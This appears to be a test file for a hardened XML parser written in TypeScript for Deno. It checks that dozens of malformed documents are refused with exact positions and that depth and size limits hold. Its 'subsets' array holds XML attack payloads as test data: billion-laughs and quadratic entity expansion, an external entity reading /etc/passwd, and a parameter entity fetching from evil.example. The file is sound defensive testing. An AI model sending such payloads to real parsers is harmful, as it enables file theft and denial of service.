/** Documents that are broken or mean harm: every one is refused, quickly, with its position. */
import assert from "node:assert/strict";
import { parse, profiles, XmlSyntaxError } from "./mod.ts";

/** What it is, the document, and the line and column at which it is refused. */
const refused: readonly (readonly [what: string, xml: string, at: string])[] = [
  ["nothing", "", "1:1"],
  ["white space alone", " \n ", "2:1"],
  ["text alone", "text", "1:4"],
  ["a tag that is not closed", "<a>", "1:1"],
  ["an inner tag that is not closed", "<a>\n <b>\n</a>", "3:1"],
  ["tags that cross", "<a><b></a></b>", "1:7"],
  ["a closing tag alone", "</a>", "1:4"],
  ["a closing tag too many", "<a></a></a>", "1:11"],
  ["a closing tag with an attribute", '<a></a b="1">', "1:8"],
  ["a case that differs", "<a></A>", "1:4"],
  ["two roots", "<a/><b/>", "1:7"],
  ["text before the root", "x<a/>", "1:2"],
  ["text after the root", "<a/>x", "1:5"],
  ["CDATA after the root", "<a/><![CDATA[x]]>", "1:13"],
  ["a reference after the root", "<a/>&amp;", "1:5"],
  ["an attribute twice", '<a b="1" b="2"/>', "1:16"],
  ["an attribute without quotes", "<a b=1/>", "1:6"],
  ["an attribute without value", "<a b/>", "1:5"],
  ["an attribute without name", '<a ="1"/>', "1:4"],
  ["attributes without blank between", '<a b="1"c="2"/>', "1:9"],
  ["a value that does not end", '<a b="1/>', "1:6"],
  ["quotes that differ", "<a b=\"1'/>", "1:6"],
  ["< in a value", '<a b="<"/>', "1:6"],
  ["a bare & in a value", '<a b="x & y"/>', "1:9"],
  ["a bare & in text", "<a>x & y</a>", "1:6"],
  ["an entity that is not known", "<a>&nbsp;</a>", "1:9"],
  ["an entity without end", "<a>&amp</a>", "1:4"],
  ["an empty entity", "<a>&;</a>", "1:4"],
  ["a reference to nothing", "<a>&#;</a>", "1:4"],
  ["a reference to NUL", "<a>&#0;</a>", "1:7"],
  ["a reference to a control character", "<a>&#x1;</a>", "1:8"],
  ["a reference to half a character", "<a>&#xd800;</a>", "1:11"],
  ["a reference beyond Unicode", "<a>&#x110000;</a>", "1:13"],
  ["a reference with a sign", "<a>&#-5;</a>", "1:4"],
  ["a reference that is no number", "<a>&#xzz;</a>", "1:4"],
  ["NUL in text", "<a>\0</a>", "1:4"],
  ["a control character in text", "<a>\x07</a>", "1:4"],
  ["a control character in a value", '<a b="\x1b"/>', "1:7"],
  ["a control character in CDATA", "<a><![CDATA[\x00]]></a>", "1:13"],
  ["a control character in a comment", "<a><!--\x01--></a>", "1:8"],
  ["a character that is none", "<a>\uffff</a>", "1:4"],
  ["half a character", "<a>\n \ud800</a>", "2:2"],
  ["the other half", '<a b="\udc00"/>', "1:7"],
  ["]]> in text", "<a>]]></a>", "1:6"],
  ["CDATA that does not end", "<a><![CDATA[x</a>", "1:4"],
  ["CDATA in lower case", "<a><![cdata[x]]></a>", "1:12"],
  ["-- in a comment", "<a><!-- a -- b --></a>", "1:13"],
  ["a comment that does not end", "<a><!-- x</a>", "1:4"],
  ["a comment that ends in --->", "<a><!-- x ---></a>", "1:13"],
  ["an instruction that does not end", "<a><?x y</a>", "1:4"],
  ["an instruction without target", "<a><? y?></a>", "1:6"],
  ["an XML declaration in the middle", '<a><?xml version="1.0"?></a>', "1:9"],
  ["an XML declaration after a blank", ' <?xml version="1.0"?><a/>', "1:7"],
  ["an XML declaration without version", '<?xml encoding="UTF-8"?><a/>', "1:15"],
  ["an XML declaration of another version", '<?xml version="1.1"?><a/>', "1:25"],
  ["an XML declaration that says maybe", '<?xml version="1.0" standalone="maybe"?><a/>', "1:38"],
  ["a name that begins with a digit", "<1a/>", "1:2"],
  ["a name that begins with a hyphen", "<-a/>", "1:2"],
  ["a name with a character of its own", "<a$/>", "1:3"],
  ["a blank before the name", "< a/>", "1:2"],
  ["an attribute's name with a digit first", '<a 1="2"/>', "1:4"],
  ["a slash in the middle", "<a / b='1'>", "1:5"],
  ["a tag that does not end", "<a", "1:2"],
  ["< in a tag", "<a<b/>", "1:3"],
  ["an empty tag", "<>", "1:2"],
  ["an empty closing tag", "<a></>", "1:6"],
  ["a prefix that is not bound", "<x:a/>", "1:6"],
  ["a prefix of an attribute that is not bound", '<a x:b="1"/>', "1:12"],
  ["a prefix bound elsewhere", '<a><b xmlns:x="u"/><x:c/></a>', "1:25"],
  ["a prefix bound to nothing", '<a xmlns:x=""/>', "1:15"],
  ["the prefix xml bound anew", '<a xmlns:xml="u"/>', "1:18"],
  ["the prefix xmlns bound", '<a xmlns:xmlns="u"/>', "1:20"],
  ["the default namespace of xmlns", '<a xmlns="http://www.w3.org/2000/xmlns/"/>', "1:42"],
  ["an element called xmlns:a", "<xmlns:a/>", "1:10"],
  ["one name by two prefixes", '<a xmlns:x="u" xmlns:y="u" x:b="" y:b=""/>', "1:42"],
  ["two colons", '<a xmlns:x="u"><x:b:c/></a>', "1:23"],
  ["a colon first", "<:a/>", "1:5"],
  ["a DOCTYPE", "<!DOCTYPE a><a/>", "1:12"],
  ["a DOCTYPE with an external identifier", '<!DOCTYPE a SYSTEM "/etc/passwd"><a/>', "1:33"],
  ["a DOCTYPE after the root", "<a/><!DOCTYPE a>", "1:13"],
  ["an entity declaration outside", "<!ENTITY a 'b'><a/>", "1:9"],
];

/** A DOCTYPE that brings something with it, which not even the profile for agents takes. */
const subsets: readonly (readonly [what: string, xml: string])[] = [
  [
    "a billion laughs",
    `<!DOCTYPE a [<!ENTITY a "ha">${
      "bcdefghij".split("").map((name, index) =>
        `<!ENTITY ${name} "${`&${"abcdefghi"[index]};`.repeat(10)}">`
      ).join("")
    }]><a>&j;</a>`,
  ],
  [
    "quadratic blow-up",
    `<!DOCTYPE a [<!ENTITY a "${"x".repeat(50_000)}">]><a>${"&a;".repeat(50_000)}</a>`,
  ],
  ["an external entity", '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]><a>&x;</a>'],
  ["a parameter entity", '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil.example/x"> %x;]><a/>'],
  ["an attribute default", '<!DOCTYPE a [<!ATTLIST a b CDATA "x">]><a/>'],
  ["an empty subset", "<!DOCTYPE a []><a/>"],
  ["an unknown entity beside an external DTD", '<!DOCTYPE a SYSTEM "x.dtd"><a>&copy;</a>'],
  ["two DOCTYPEs", "<!DOCTYPE a><!DOCTYPE a><a/>"],
  ["a DOCTYPE that does not end", "<!DOCTYPE a [ <a/>"],
];

const refusal = (read: () => unknown, what: string): XmlSyntaxError => {
  try {
    read();
  } catch (error) {
    assert.ok(error instanceof XmlSyntaxError, `${what}: ${error}`);
    return error;
  }
  assert.fail(`${what} is taken`);
};

Deno.test(`${refused.length} malformed documents are refused with their position`, () => {
  assert.ok(refused.length >= 60);
  for (const [what, xml, at] of refused) {
    const error = refusal(() => parse(xml), what);
    assert.equal(`${error.line}:${error.column}`, at, `${what}: ${error.message}`);
    assert.match(error.message, /^[A-Z][^]*[^.] at line \d+, column \d+$/, what);
    // Column and line say the same as the offset.
    const before = xml.slice(0, error.offset).split("\n");
    if (xml !== "") assert.equal(`${before.length}:${before.at(-1)!.length + 1}`, at, what);
  }
});

Deno.test("a DOCTYPE that brings definitions is refused in both profiles", () => {
  for (const [what, xml] of subsets) {
    for (const profile of [profiles.cib, profiles.agent]) {
      const began = performance.now();
      refusal(() => parse(xml, profile), what);
      assert.ok(performance.now() - began < 1000, what);
    }
  }
});

Deno.test("the profile for agents takes a DOCTYPE and loads nothing", () => {
  // There is no permission to load anything: a test of this folder has none.
  const { root } = parse(
    '<?xml version="1.0"?><!DOCTYPE resource-agent SYSTEM "file:///etc/ra-api-1.dtd"><resource-agent/>',
    profiles.agent,
  );
  assert.equal(root.name.local, "resource-agent");
});

Deno.test("every bound holds, with a message that names it", () => {
  const nested = (depth: number) => "<a>".repeat(depth) + "</a>".repeat(depth);
  const cases: readonly (readonly [() => unknown, RegExp])[] = [
    [() => parse(nested(257)), /deeper than 256 at line 1, column 771/],
    [() => parse(nested(1500)), /deeper than 256/],
    [() => parse(nested(100_000)), /deeper than 256/],
    [() => parse("<a>".repeat(1_000_000)), /deeper than 256/],
    [() => parse(nested(4), { depthMax: 3 }), /deeper than 3/],
    [
      () => parse(`<a ${Array.from({ length: 1025 }, (_, i) => `b${i}=""`).join(" ")}/>`),
      /More than 1024 attributes/,
    ],
    [() => parse(`<a>${"x".repeat(100)}</a>`, { charactersMax: 99 }), /limit 99/],
    [() => parse(`<a>${"x".repeat(100)}</a>`, { textMax: 99 }), /text of more than 99/],
    [() => parse(`<a b="${"x".repeat(100)}"/>`, { textMax: 99 }), /value of more than 99/],
    [() => parse(`<a><!--${"x".repeat(100)}--></a>`, { textMax: 99 }), /comment of more than 99/],
    [
      () => parse(`<a><![CDATA[${"x".repeat(100)}]]></a>`, { textMax: 99 }),
      /cdata of more than 99/,
    ],
    [() => parse(`<a>${"<b/>".repeat(100)}</a>`, { nodesMax: 100 }), /More than 100 nodes/],
    [
      () => parse(`<a>${"&#10;".repeat(101)}</a>`, { referencesMax: 100 }),
      /More than 100 references at line 1, column 504/,
    ],
  ];
  for (const [read, message] of cases) assert.match(refusal(read, message.source).message, message);
  // One less of each is taken.
  parse(nested(256));
  parse(`<a ${Array.from({ length: 1024 }, (_, i) => `b${i}=""`).join(" ")}/>`);
  parse(`<a>${"<b/>".repeat(99)}</a>`, { nodesMax: 100 });
  parse(`<a>${"&#10;".repeat(100)}</a>`, { referencesMax: 100 });
});
